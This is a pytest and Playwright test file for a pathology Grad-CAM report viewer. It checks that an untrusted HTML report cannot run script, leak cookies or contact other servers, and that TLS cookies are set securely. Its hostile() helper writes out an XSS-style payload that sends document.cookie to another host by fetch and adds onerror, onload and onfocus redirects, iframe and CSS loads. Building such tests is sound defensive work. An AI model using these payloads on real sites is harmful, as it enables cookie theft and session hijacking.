"""A browser that shows what a stranger has put into OUT: nothing runs, nothing leaves, and no other server learns."""

from __future__ import annotations

import shutil
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser

from tests.viewer_browser import browser, out
from tests.viewer_runs import served
from wsi_gradcam.errors import ConfigError
from wsi_gradcam.viewer.app import view
from wsi_gradcam.viewer.serve import Access, make_server

__all__ = ["browser", "out"]  # fixtures


class Neighbour(ThreadingHTTPServer):
    """Another server on this host, which notes what it is asked."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.asked: list[tuple[str, dict[str, str]]] = []

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"


class _Handler(BaseHTTPRequestHandler):
    server: Neighbour

    def do_GET(self) -> None:
        self.server.asked.append((self.path, {name.lower(): value for name, value in self.headers.items()}))
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"<title>neighbour</title>")

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


@pytest.fixture
def neighbour() -> Iterator[Neighbour]:
    with Neighbour() as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join(10)


def hostile(url: str) -> str:
    return (
        f"<!doctype html><title>report</title><meta http-equiv='refresh' content='0; url={url}/refresh'>"
        f"<script>fetch('{url}/script?' + document.cookie); document.title = 'ran'; location = '{url}/script'</script>"
        f"<img src='{url}/img' onerror=\"location='{url}/handler'\"><iframe src='{url}/frame'></iframe>"
        f"<link rel='stylesheet' href='{url}/style'><link rel='prefetch' href='{url}/prefetch'>"
        f"<base href='{url}/base/'>"
        f"<style>@import url('{url}/import'); body {{ background: url('{url}/background') }}</style>"
        f"<form id='f' action='{url}/form'><input name='x' autofocus onfocus='f.submit()'></form>"
        f"<object data='{url}/object'></object><svg onload=\"location='{url}/svg'\"></svg>"
        f"<a id='out' href='{url}/link'>out</a>"
    )


@pytest.mark.parametrize("token", ["", "a-token-of-ours"])
def test_a_hostile_report_runs_nothing_and_tells_nothing(
    token: str, browser: Browser, out: Path, neighbour: Neighbour, tmp_path: Path
) -> None:
    shutil.copytree(out, tmp_path / "out")
    (tmp_path / "out/run.html").write_text(hostile(neighbour.url), encoding="utf-8")
    access = Access.for_host("127.0.0.1", token)
    with served(tmp_path / "out", access) as server, browser.new_context() as context:
        page = context.new_page()
        page.goto(f"{server.url}/" + (f"?token={token}" if token else ""))
        page.wait_for_selector("body[data-ready]")
        assert "token" not in page.url
        page.goto(f"{server.url}{access.folder}files/run.html")
        page.wait_for_timeout(1500)
        assert page.title() == "report"
        assert page.url == f"{server.url}{access.folder}files/run.html"
        assert neighbour.asked == []
        page.click("#out")  # what a person does themselves
        page.wait_for_url(f"{neighbour.url}/link")
    ((path, headers),) = [asked for asked in neighbour.asked if asked[0] != "/favicon.ico"]
    assert path == "/link"
    assert not {"cookie", "referer", "authorization"} & headers.keys()


def test_a_neighbour_gets_no_cookie(browser: Browser, out: Path, neighbour: Neighbour) -> None:
    access = Access.for_host("127.0.0.1", "a-token-of-ours")
    with served(out, access) as server, browser.new_context() as context:
        page = context.new_page()
        page.goto(f"{server.url}/?token=a-token-of-ours")
        page.wait_for_selector("body[data-ready]")
        assert [cookie["value"] for cookie in context.cookies(page.url)] == ["a-token-of-ours"]
        for path in ("/", "/files/run.html", "/api/run"):
            page.goto(f"{neighbour.url}{path}")
        page.reload()
    assert not any("cookie" in headers for _, headers in neighbour.asked)
    assert len(neighbour.asked) >= 4


@pytest.fixture(scope="module")
def certificate(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, str]:
    folder = tmp_path_factory.mktemp("tls")
    files = str(folder / "cert.pem"), str(folder / "key.pem")
    command = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=127.0.0.1"]
    subprocess.run([*command, "-out", files[0], "-keyout", files[1]], check=True, capture_output=True)
    return files


def test_a_certificate_makes_it_https(browser: Browser, out: Path, certificate: tuple[str, str]) -> None:
    from wsi_gradcam.viewer.app import make_app
    from wsi_gradcam.viewer.archive import Archive
    from wsi_gradcam.viewer.serve import listen

    access = Access.for_host("127.0.0.1", "a-token-of-ours")
    server = make_server(make_app(Archive(out), access), certificate)
    with listen("127.0.0.1", 0) as bound, browser.new_context(ignore_https_errors=True) as context:
        thread = threading.Thread(target=server.run, kwargs={"sockets": [bound]})
        thread.start()
        page = context.new_page()
        page.goto(f"https://127.0.0.1:{bound.getsockname()[1]}/?token=a-token-of-ours")
        page.wait_for_selector("body[data-ready]")
        (cookie,) = context.cookies(page.url)
        assert (cookie["secure"], cookie["httpOnly"], cookie["sameSite"]) == (True, True, "Strict")
        assert cookie["name"].startswith("__Secure-")
        assert cookie["path"] == access.folder
        context.close()
        server.should_exit = True
        thread.join(20)


def test_a_certificate_that_is_none_is_refused(out: Path, tmp_path: Path) -> None:
    (tmp_path / "a.pem").write_text("no certificate")
    for file in (str(tmp_path / "a.pem"), str(tmp_path / "missing.pem")):
        with pytest.raises(ConfigError, match=r"--tls .*pem .*pem: .*; expected certificate and key in PEM"):
            view(str(out), port=0, tls=(file, file), announce=lambda _: None)
